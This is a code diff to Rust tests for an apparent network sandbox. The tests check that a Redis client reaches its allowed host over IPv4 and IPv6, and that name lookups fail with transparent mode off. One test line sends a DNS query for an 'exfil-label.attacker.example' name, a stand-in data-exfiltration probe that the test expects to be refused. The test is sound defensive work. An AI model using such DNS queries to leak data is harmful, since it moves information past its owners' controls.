@@ -64,6 +64,7 @@ fn redis_cli_reaches_redis_by_name_and_everything_else_is_refused() {
          ip=$(getent ahostsv4 cache.demo.internal | head -n1 | cut -d' ' -f1)\n\
          echo getent4=$ip\n\
          echo ping=$(redis-cli -h cache.demo.internal -p 6379 PING)\n\
+         echo ping6=$(redis-cli -h $(getent ahostsv6 cache.demo.internal | head -n1 | cut -d' ' -f1) PING)\n\
          echo set=$(redis-cli -h cache.demo.internal SET k sluice)\n\
          echo get=$(redis-cli -h cache.demo.internal GET k)\n\
          echo refused=$(dig +short +tries=1 +time=2 exfil-label.attacker.example A >/dev/null; dig +tries=1 +time=2 exfil-label.attacker.example A | grep -o 'status: [A-Z]*')\n\
@@ -109,6 +110,7 @@ fn redis_cli_reaches_redis_by_name_and_everything_else_is_refused() {
         "{synthetic}"
     );
     assert_eq!(r.value("ping"), "PONG", "{out}");
+    assert_eq!(r.value("ping6"), "PONG", "captured over IPv6 too: {out}");
     assert_eq!(r.value("set"), "OK", "{out}");
     assert_eq!(r.value("get"), "sluice", "{out}");
     assert_eq!(r.value("refused"), "status: REFUSED", "{out}");
@@ -166,6 +168,25 @@ fn redis_cli_reaches_redis_by_name_and_everything_else_is_refused() {
         "python3 is off `binaries` and denied: {opened:#?}"
     );
     assert_cleaned_up(&r.netns);
+}
+
+/// `--transparent off`: no name gets an address, so a proxy-unaware client
+/// fails at the lookup (and nothing is captured).
+#[test]
+fn transparent_off_refuses_every_name() {
+    let dir = TempDir::new("transparent-off");
+    let script = "echo lookup=$(getent hosts cache.demo.internal >/dev/null && echo found || echo refused)\n\
+                  echo status=$(dig +tries=1 +time=2 cache.demo.internal A | grep -o 'status: [A-Z]*')\n";
+    let r = run_to_end(&dir, REDIS_POLICY, &["--transparent", "off"], script);
+    let out = format!("{}\n{}", r.stdout, r.stderr);
+    assert_eq!(r.status.code(), Some(0), "{out}");
+    assert_eq!(r.value("lookup"), "refused", "{out}");
+    assert_eq!(r.value("status"), "status: REFUSED", "{out}");
+    assert!(
+        !r.events.iter().any(|e| e["class_uid"] == 4003),
+        "no synthetic answer: {:#?}",
+        r.events
+    );
 }
 
 /// A mapping past its TTL is refused until the name is resolved again.
